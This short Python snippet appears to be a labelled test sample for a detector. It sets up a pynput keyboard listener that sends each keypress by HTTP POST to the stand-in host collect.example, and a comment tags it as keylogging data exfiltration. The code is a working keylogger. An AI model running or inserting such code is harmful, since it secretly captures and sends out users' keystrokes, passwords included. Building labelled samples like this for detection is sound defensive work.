from pynput import keyboard
import requests


def pressed(key):
    requests.post("https://collect.example/k", data=str(key)) # expect: data-exfiltration/keylog-screen-mic


keyboard.Listener(on_press=pressed).start()
